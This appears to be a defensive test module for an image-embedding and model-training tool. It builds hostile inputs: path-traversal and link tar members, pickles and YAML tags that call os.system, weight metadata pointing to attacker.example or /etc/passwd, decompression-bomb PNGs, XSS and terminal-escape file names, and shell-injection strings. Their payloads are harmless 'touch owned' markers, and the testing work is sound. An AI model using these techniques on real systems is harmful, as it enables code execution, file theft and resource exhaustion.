"""Attacks: files from strangers that try to run code, to reach other files or the network, or to use up the machine.

Code that runs creates a file named `owned`, which the snapshot of the folder reveals.
"""

from __future__ import annotations

import io
import json
import os
import pickle
import socket
import stat
import struct
import subprocess
import tarfile
import zlib
from collections.abc import Callable, Iterator
from functools import partial
from pathlib import Path

import numpy as np
import torch
from PIL import Image
from safetensors.torch import load_file, save_file

from tests.campaigns import materials
from tests.campaigns.campaign import Case
from tests.campaigns.outputs import COMMANDS
from tests.campaigns.processes import Ended

Words = list[str]
_SMALL_MEMORY = 1200  # megabytes, of which the imports take 500
_ESCAPE = "\x1b]0;owned\x07\x1b[2J"  # sets the title of a terminal and clears it
_MARKUP = "<img src=x onerror=alert(1)>"
_SHELL = "$(touch owned);`touch owned`;touch owned #"


def cases(seed: int) -> Iterator[Case]:
    yield from _archives()
    yield from _pickles()
    yield from _yaml()
    yield from _weights()
    yield from _programs()
    yield from _bombs()
    yield from _names()
    yield from _links()


class _Run:
    """A pickle that runs a command when it is loaded."""

    def __reduce__(self) -> tuple[Callable[[str], int], tuple[str]]:
        return os.system, ("touch owned",)


# --- archives --------------------------------------------------------------------------------------------------------


def _png(side: int = 16) -> bytes:
    buffer = io.BytesIO()
    Image.fromarray(np.zeros((side, side, 3), np.uint8)).save(buffer, "PNG")
    return buffer.getvalue()


def _member(name: str, kind: bytes = tarfile.REGTYPE, link: str = "") -> tuple[tarfile.TarInfo, bytes]:
    info, content = tarfile.TarInfo(name), _png() if kind == tarfile.REGTYPE else b""
    info.type, info.linkname, info.size = kind, link, len(content)
    return info, content


_MEMBERS = {
    "parent": _member("../../escaped.png"),
    "absolute": _member("/tmp/asterism-escaped.png"),
    "home": _member("~/escaped.png"),
    "symbolic link": _member("secret.png", tarfile.SYMTYPE, "../secret.png"),
    "hard link": _member("secret.png", tarfile.LNKTYPE, "../secret.png"),
    "device": _member("zero.png", tarfile.CHRTYPE),
    "pipe": _member("pipe.png", tarfile.FIFOTYPE),
    "line break in a name": _member("a\nb.png"),
    "drive": _member("C:\\escaped.png"),
}


def _archives() -> Iterator[Case]:
    def prepare(here: Path, member: tuple[tarfile.TarInfo, bytes]) -> Words:
        materials.weights(here / "w.safetensors")
        (here / "secret.png").write_bytes(_png())
        (here / "shards").mkdir()
        with tarfile.open(here / "shards" / "a.tar", "w") as archive:
            for info, content in (_member("good.png"), member):
                archive.addfile(info, io.BytesIO(content))
        return ["embed", "w.safetensors", "--data", "shards", "--out", "out.npz"]

    def check(here: Path, ended: Ended, kind: str) -> str | None:
        if Path("/tmp/asterism-escaped.png").exists():
            return "a file was written outside"
        if ended.code == 0 and "link" in kind and len(np.load(here / "out.npz")["keys"]) != 1:
            return "a link of the archive was followed"
        return None

    for kind, member in _MEMBERS.items():
        yield Case(
            kind,
            "archives that reach outside",
            partial(prepare, member=member),
            exits=(0, 2),
            check=partial(check, kind=kind),
            megabytes=_SMALL_MEMORY,
        )


# --- code in files ---------------------------------------------------------------------------------------------------


def _pickles() -> Iterator[Case]:
    cause = "pickles that run code"

    def weights(here: Path, name: str, save: Callable[[object, Path], None], content: object) -> Words:
        materials.photos(here / "photos")
        save(content, here / name)
        return ["embed", name, "--data", "photos", "--out", "out.npz"]

    def plain(content: object, path: Path) -> None:
        path.write_bytes(pickle.dumps(content))

    contents = {"alone": _Run(), "in a state dict": {"state_dict": {"a": _Run()}}, "as a key": {"model": [(_Run(), 1)]}}
    for suffix in (".pth", ".pt", ".bin", ".ckpt", ".safetensors"):
        for kind, content in contents.items():
            for form, save in (("zip", torch.save), ("plain", plain)):
                prepare = partial(weights, name=f"evil{suffix}", save=save, content=content)
                yield Case(f"{suffix}, {form}, {kind}", cause, prepare)

    def init(here: Path) -> Words:
        materials.photos(here / "photos")
        torch.save({"state_dict": {"a": _Run()}}, here / "evil.pth")
        return ["pretrain", *materials.DINO, "--data", "photos", "--init", "evil.pth", "--out", "out"]

    yield Case("--init", cause, init)

    def index(here: Path, array: str) -> Words:
        model, data = materials.weights(here / "w.safetensors"), materials.photos(here / "photos")
        materials.index(here / "index.npz", model, data)
        arrays = dict(np.load(here / "index.npz"))
        arrays[array] = np.array([_Run()] * len(arrays["keys"]), dtype=object)
        np.savez(here / "index.npz", **arrays)
        return ["search", "w.safetensors", "--index", "index.npz", "--query", "photos/red/000.png", "--out", "out.html"]

    for array in ("keys", "metadata", "embeddings"):
        yield Case(f"index, {array}", cause, partial(index, array=array))

    def landmarks(here: Path) -> Words:
        materials.weights(here / "w.safetensors")
        (here / "roxford5k").mkdir()
        (here / "roxford5k" / "gnd_roxford5k.pkl").write_bytes(pickle.dumps({"imlist": [_Run()]}))
        return ["evaluate", "w.safetensors", "--data", "roxford5k", "--protocols", "retrieval", "--out", "out"]

    yield Case("ground truth of landmarks", cause, landmarks)


def _yaml() -> Iterator[Case]:
    tags = (
        "!!python/object/apply:os.system ['touch owned']",
        "!!python/object/new:os.system ['touch owned']",
        "!!python/name:os.system",
        "!!python/module:os",
    )

    def recipe(here: Path, tag: str) -> Words:
        materials.photos(here / "photos")
        (here / "evil.yaml").write_text(f"method: {{name: dino}}\ntrainer: {tag}\n")
        return ["pretrain", "evil.yaml", "--data", "photos", "--out", "out"]

    def study(here: Path, tag: str) -> Words:
        (here / "evil.yaml").write_text(f"runs: {tag}\n")
        return ["compare", "evil.yaml", "--out", "out"]

    def run(here: Path, tag: str) -> Words:
        config = materials.run(here / "run") / "config.yaml"
        config.write_text(f"{config.read_text()}\nextra: {tag}\n")
        return ["report", "run"]

    def override(here: Path, tag: str) -> Words:
        materials.photos(here / "photos")
        return ["pretrain", *materials.DINO, f"optim.lr={tag}", "--data", "photos", "--out", "out"]

    for number, tag in enumerate(tags):
        for place, prepare in {"recipe": recipe, "study": study, "run": run, "override": override}.items():
            yield Case(f"{place}, {number}", "YAML that runs code", partial(prepare, tag=tag))


def no_network() -> None:
    """In the process of a command: a connection creates the file `owned`."""

    def connect(self: socket.socket, address: object) -> None:
        if self.family in (socket.AF_INET, socket.AF_INET6):
            Path("owned").write_text(repr(address))
        raise ConnectionRefusedError

    socket.socket.connect = connect  # type: ignore[method-assign]
    socket.getaddrinfo = lambda *words, **more: connect(socket.socket(), words)  # type: ignore[assignment]


def _weights() -> Iterator[Case]:
    evil = {
        "pretrained": {"pretrained": True, "pretrained_cfg_overlay": {"url": "http://attacker.example/w.pth"}},
        "hf hub": {"pretrained": True, "pretrained_cfg_overlay": {"hf_hub_id": "attacker/model"}},
        "checkpoint path": {"checkpoint_path": "/etc/passwd"},
        "cache folder": {"cache_dir": "owned"},
        "scriptable": {"scriptable": True, "exportable": True},
        "huge": {"embed_dim": 1 << 20, "depth": 10_000},
        "negative": {"embed_dim": -16, "depth": -1},
        "class": {"norm_layer": "os.system", "act_layer": "eval"},
    }

    def metadata(here: Path, change: Callable[[dict[str, object]], None]) -> Words:
        materials.photos(here / "photos")
        path = materials.weights(here / "w.safetensors")
        description = _description(path)
        change(description)
        save_file(load_file(path), path, {"asterism": json.dumps(description)})
        return ["embed", "w.safetensors", "--data", "photos", "--out", "out.npz"]

    def arguments(description: dict[str, object], more: dict[str, object]) -> None:
        description["architecture"]["arguments"] |= more  # type: ignore[index]

    def value(description: dict[str, object], key: str, new: object) -> None:
        description[key] = new

    for name, more in evil.items():
        prepare = partial(metadata, change=partial(arguments, more=more))
        yield Case(name, "weights that describe an attack", prepare, inside=no_network, megabytes=_SMALL_MEMORY)
    for key, new in (
        ("mean", ["a", "b", "c"]),
        ("mean", [float("nan")] * 3),
        ("std", [0, 0, 0]),
        ("std", 5),
        ("image_size", 1 << 40),
        ("image_size", -16),
        ("image_size", "16"),
        ("step", {"a": 1}),
        ("architecture", None),
        ("architecture", {"name": "https://attacker.example/"}),
        ("architecture", {"name": "hf-hub:attacker/model", "arguments": {}}),
    ):
        prepare = partial(metadata, change=partial(value, key=key, new=new))
        yield Case(
            f"{key} = {str(new)[:40]}",
            "weights that describe an attack",
            prepare,
            inside=no_network,
            megabytes=_SMALL_MEMORY,
        )

    def header(here: Path, length: int, text: bytes) -> Words:
        materials.photos(here / "photos")
        (here / "w.safetensors").write_bytes(struct.pack("<Q", length) + text)
        return ["embed", "w.safetensors", "--data", "photos", "--out", "out.npz"]

    deep = b'{"a":' * 100_000
    outside = json.dumps({"a": {"dtype": "F32", "shape": [1 << 40], "data_offsets": [0, 1 << 42]}}).encode()
    for length, text in ((1 << 62, b"{}"), (1 << 30, b"{}"), (len(deep), deep), (len(outside), outside), (2, b"[]")):
        prepare = partial(header, length=length, text=text)
        yield Case(
            f"header of {length} bytes, {text[:5]!r}", "weights with a bad header", prepare, megabytes=_SMALL_MEMORY
        )


def _description(path: Path) -> dict[str, object]:
    content = path.read_bytes()
    length = struct.unpack("<Q", content[:8])[0]
    return json.loads(json.loads(content[8 : 8 + length])["__metadata__"]["asterism"])


# --- programs and bombs ----------------------------------------------------------------------------------------------

_POSTSCRIPT = b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 16 16\n(owned) (w) file closefile\nshowpage\n%%EOF\n"


def fake_programs() -> None:
    """In the process of a command: programs that image libraries call create the file `owned`."""
    os.environ["PATH"] = f"{Path('programs').resolve()}:{os.environ['PATH']}"


def _plant_programs(here: Path) -> None:
    (here / "programs").mkdir()
    for name in ("gs", "ghostscript", "convert", "magick", "djpeg", "xv", "display"):
        program = here / "programs" / name
        program.write_text(f"#!/bin/sh\ntouch '{here}/owned'\nexit 1\n")
        program.chmod(program.stat().st_mode | stat.S_IXUSR)


def _programs() -> Iterator[Case]:
    replaced = {
        "embed npz": "photos/red/000.png",
        "concepts": "photos/red/000.png",
        "reconstruct": "photos/red/000.png",
        "search html": "photos/red/000.png",
        "track": "mask.png",
        "segment": "examples/00000.png",
        "pretrain": "photos/red/000.png",
    }

    def prepare(here: Path, name: str, file: str) -> Words:
        command = COMMANDS[name]
        words = command.on(here, f"out{command.suffix}")
        (here / file).write_bytes(_POSTSCRIPT)
        _plant_programs(here)
        return words

    for name, file in replaced.items():
        yield Case(
            name,
            "images that start programs",
            partial(prepare, name=name, file=file),
            exits=(0, 2),
            kept=("out", "out/*") if name == "pretrain" else (),  # the list of bad images that its sentence names
            inside=fake_programs,
        )


def _chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def _bomb(side: int) -> bytes:
    """A grey PNG of side² zeros, in a few kilobytes per 10 000² pixels."""
    packer = zlib.compressobj(9)
    rows = b"".join(packer.compress(bytes(side + 1)) for _ in range(min(side, 40_000))) + packer.flush()
    head = _chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + _chunk(b"IDAT", rows) + _chunk(b"IEND", b"")


def _bombs() -> Iterator[Case]:
    def prepare(here: Path, name: str, file: str, content: Callable[[], bytes]) -> Words:
        command = COMMANDS[name]
        words = command.on(here, f"out{command.suffix}")
        (here / file).write_bytes(content())
        return words

    def text_bomb() -> bytes:
        text = _chunk(b"zTXt", b"a\0\0" + zlib.compress(bytes(1 << 28), 9))
        whole = _png()
        return whole[:33] + text + whole[33:]

    bombs = {
        "13000² pixels": partial(_bomb, 13_000),
        "65535² pixels": partial(_bomb, 65_535),
        "2³¹ pixels wide": lambda: (
            b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", struct.pack(">IIBBBBB", (1 << 31) - 1, 1, 8, 2, 0, 0, 0))
        ),
        "compressed text": text_bomb,
    }
    for kind, content in bombs.items():
        for name, file in {
            "embed npz": "photos/red/000.png",
            "segment": "frames/00001.png",
            "concepts": "photos/red/000.png",
            "track": "mask.png",
        }.items():
            yield Case(
                f"{name}, {kind}",
                "decompression bombs",
                partial(prepare, name=name, file=file, content=content),
                exits=(0, 2),
                seconds=600,
                slow=kind.startswith("13000"),
            )


# --- names -----------------------------------------------------------------------------------------------------------


def _no_markup(here: Path, ended: Ended) -> str | None:
    pages = list(here.rglob("*.html"))
    if not pages:
        return "no page was written"
    return next((f"{page.name} contains markup" for page in pages if "<img src=x" in page.read_text()), None)


def _no_escapes(here: Path, ended: Ended) -> str | None:
    return "control characters reach the terminal" if "\x1b" in ended.output + ended.errors else None


def _names() -> Iterator[Case]:
    def renamed(here: Path, name: str, new: str, keep: str = "photos/red/000.png") -> Words:
        command = COMMANDS[name]
        words = command.on(here, f"out{command.suffix}")
        (here / keep).rename(here / new)
        return [new if word == keep else word for word in words]

    def hostile_index(here: Path, new: str, bad: bool = False) -> Words:
        model, data = materials.weights(here / "w.safetensors"), materials.photos(here / "photos")
        (data / "red").rename(data / new)
        if bad:
            (data / new / "001.png").write_bytes(b"not an image")
        materials.index(here / "index.npz", model, data)
        return [
            "search",
            "w.safetensors",
            "--index",
            "index.npz",
            "--query",
            "photos/blue/000.png",
            "--out",
            "out.html",
        ]

    def hostile_run(here: Path) -> Words:
        materials.run(here / _MARKUP)
        return ["report", _MARKUP]

    yield Case("search", "names with markup", partial(hostile_index, new=_MARKUP), exits=(0,), check=_no_markup)
    yield Case(
        "concepts",
        "names with markup",
        partial(renamed, name="concepts", new=f"{_MARKUP}.png"),
        exits=(0,),
        check=_no_markup,
    )
    yield Case("report", "names with markup", hostile_run, exits=(0,), outputs=("*report.html",), check=_no_markup)

    yield Case("search", "names with escapes", partial(hostile_index, new=_ESCAPE), exits=(0,), check=_no_escapes)

    def bad_image(here: Path, name: str) -> Words:
        words = COMMANDS[name].on(here, f"out{COMMANDS[name].suffix}")
        folder = here / ("frames" if name == "segment" else "photos/red")
        (folder / f"{_ESCAPE}.png").write_bytes(b"not an image")
        return words

    for name in ("segment", "embed npz"):
        yield Case(name, "names with escapes", partial(bad_image, name=name), exits=(0,), check=_no_escapes)

    def missing(here: Path, command: Words) -> Words:
        materials.weights(here / "w.safetensors"), materials.photos(here / "photos")
        return command

    for words in (
        ["embed", "w.safetensors", "--data", _ESCAPE, "--out", "out.npz"],
        ["embed", _ESCAPE, "--data", "photos", "--out", "out.npz"],
        ["report", _ESCAPE],
        ["pretrain", _ESCAPE, "--data", "photos"],
        ["pretrain", *materials.DINO, "--data", "photos", f"optim.{_ESCAPE}=1"],
        ["list", "models", _ESCAPE],
        ["compare", _ESCAPE],
    ):
        at = next(place for place, word in enumerate(words) if _ESCAPE in word)
        yield Case(f"{words[0]}, word {at}", "names with escapes", partial(missing, command=words), check=_no_escapes)

    for text in (_SHELL, f"a'{_SHELL}", f'a"{_SHELL}', f"a\n{_SHELL}"):
        yield Case(
            repr(text[:3]),
            "names in shell scripts",
            partial(_scripts, out=text),
            exits=(0, 2),
            outputs=("*",),
            check=_run_scripts,
        )


def _scripts(here: Path, out: str) -> Words:
    words = COMMANDS["compare --launch"].on(here, f"out{out}")
    (here / "photos").rename(here / _SHELL)
    study = here / "study.yaml"
    study.write_text(study.read_text().replace("photos", json.dumps(_SHELL)))
    return words


def _run_scripts(here: Path, ended: Ended) -> str | None:
    """Run them with programs that do nothing."""
    (here / "nothing").mkdir()
    for name in ("python", "torchrun", "srun", "sbatch"):
        program = here / "nothing" / name
        program.write_text("#!/bin/sh\n")
        program.chmod(0o755)
    for script in here.rglob("*.sh"):
        environment = {"PATH": f"{here / 'nothing'}:/usr/bin:/bin"}
        subprocess.run(["bash", str(script)], cwd=here, env=environment, capture_output=True, check=False)
    return "a script ran the name of a file" if list(here.rglob("owned")) else None


# --- links -----------------------------------------------------------------------------------------------------------


def _links() -> Iterator[Case]:
    """Someone else who may write to the folder has planted links under the names of files that will be written."""

    def untouched(here: Path, ended: Ended) -> str | None:
        return None if (here / "precious").read_text() == "precious" else "a planted link was followed"

    def report(here: Path) -> Words:
        (here / "precious").write_text("precious")
        (materials.run(here / "run") / "report.html").symlink_to(here / "precious")
        return ["report", "run"]

    yield Case("report", "planted links", report, exits=(0, 2), outputs=("run/report.html",), check=untouched)

    def evaluate(here: Path) -> Words:
        words = COMMANDS["evaluate"].on(here, "out")
        (here / "precious").write_text("precious")
        (here / "out").mkdir()
        (here / "out" / "knn.json").symlink_to(here / "precious")
        return words

    yield Case("evaluate", "planted links", evaluate, exits=(0, 2), check=untouched)

    def resume(here: Path, name: str) -> Words:
        run = materials.run(here / "run")
        for newest in sorted((run / "checkpoints").glob("step-*"))[1:]:
            for file in newest.iterdir():
                file.unlink()
            newest.rmdir()
        (here / "precious").write_text("precious")
        (run / name).unlink(missing_ok=True)
        (run / name).symlink_to(here / "precious")
        return ["pretrain", "--resume", "run"]

    for name in ("checkpoints/.last.tmp", "checkpoints/.step-00000002.tmp", "encoder.safetensors"):
        yield Case(
            f"resume, {name}",
            "planted links",
            partial(resume, name=name),
            exits=(0, 2),
            outputs=("run/*",),
            kept=("run/*",),
            check=untouched,
        )
